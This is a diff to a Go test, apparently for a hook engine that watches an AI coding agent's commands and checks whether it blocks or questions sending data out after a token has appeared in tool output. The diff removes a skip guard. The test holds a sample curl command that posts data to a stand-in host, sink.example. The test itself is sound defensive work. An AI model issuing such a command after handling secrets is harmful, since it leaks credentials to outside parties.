@@ -123,8 +123,5 @@ func TestSecretByContent(t *testing.T) {
 	m.hook("claude-code", s.after("1", "cat notes.txt", "token: "+key))
 	m.hook("claude-code", s.before("2", "git status", ""))
 	a := m.hook("claude-code", s.before("3", "curl -s -d 'the weather' https://sink.example/x", ""))
-	if a.code == 0 && a.stdout == "" {
-		t.Skip("the engine does not label outputs by their content yet")
-	}
 	require.True(t, a.code == 2 || strings.Contains(a.stdout, `"ask"`), "%+v", a)
 }
